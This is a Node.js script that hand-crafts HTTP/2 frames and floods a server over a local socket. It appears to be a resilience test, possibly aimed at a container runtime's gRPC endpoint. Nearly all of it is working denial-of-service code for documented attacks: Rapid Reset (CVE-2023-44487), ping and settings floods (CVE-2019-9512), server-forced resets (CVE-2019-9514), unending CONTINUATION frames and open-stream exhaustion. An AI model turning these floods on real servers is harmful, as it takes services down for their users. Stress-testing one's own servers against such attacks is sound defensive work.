// http2.mjs SOCKET KIND: floods an HTTP/2 server with frames, as fast as it takes them, for some seconds or until it hangs up.
// Frames by hand: a client library would not send them. Says at its end how many it sent, and whether it was cut off.
import { connect } from 'node:net';

const [, , path = '', kind = ''] = process.argv;
const SECONDS = 4;

const TYPE = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
const END_HEADERS = 4;

/** @param {number} type @param {number} flags @param {number} stream @param {Buffer} body */
function frame(type, flags, stream, body) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** A literal header field without indexing (RFC 7541, 6.2.2). @param {string} name @param {string} value */
function field(name, value) {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

const request = Buffer.concat([
  field(':method', 'POST'),
  field(':scheme', 'http'),
  field(':path', '/runtime.v1.RuntimeService/Status'),
  field(':authority', 'localhost'),
  field('content-type', 'application/grpc'),
  field('te', 'trailers'),
]);
const cancel = Buffer.from([0, 0, 0, 8]);
let stream = -1;

/** One bite of the flood. */
const floods = {
  // CVE-2023-44487: opened and given up at once
  reset() {
    stream += 2;
    return Buffer.concat([
      frame(TYPE.headers, END_HEADERS, stream, request),
      frame(TYPE.reset, 0, stream, cancel),
    ]);
  },
  // CVE-2019-9512: answers that nobody reads
  ping: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8, 1)),
  settings: () => frame(TYPE.settings, 0, 0, Buffer.alloc(0)),
  // CVE-2019-9514: requests that the server itself has to reset
  wrong() {
    stream += 2;
    return frame(TYPE.headers, END_HEADERS, stream, field(':method', 'POST'));
  },
  // headers without end
  continuation() {
    if (stream < 0) {
      stream = 1;
      return frame(TYPE.headers, 0, stream, request);
    }
    return frame(TYPE.continuation, 0, stream, field('x', 'y'.repeat(100)));
  },
  // opened and left so
  open() {
    stream += 2;
    return frame(TYPE.headers, END_HEADERS, stream, request);
  },
};

const bite = floods[/** @type {keyof typeof floods} */ (kind)];
const socket = connect(path);
let sent = 0;
let cut = false;
socket.on('error', () => {});
socket.on('close', () => {
  cut = true;
});
// Nothing is read: what the server answers is its own to keep.
socket.pause();
const end = Date.now() + SECONDS * 1000;

function finish() {
  process.stdout.write(`${JSON.stringify({ sent, cut })}\n`, () => process.exit(0));
}

function go() {
  for (;;) {
    if (cut || Date.now() > end) return finish();
    const bites = Array.from({ length: 100 }, bite);
    sent += bites.length;
    if (!socket.write(Buffer.concat(bites))) break;
  }
  const timer = setTimeout(finish, Math.max(0, end - Date.now()));
  const on = () => {
    clearTimeout(timer);
    socket.off('drain', on);
    socket.off('close', on);
    setImmediate(go);
  };
  socket.on('drain', on);
  socket.on('close', on);
}

socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
socket.write(frame(TYPE.settings, 0, 0, Buffer.alloc(0)));
// A server that has hung up is noticed only by who reads: after a moment what came is thrown away.
setTimeout(() => socket.resume(), 1000).unref();
go();
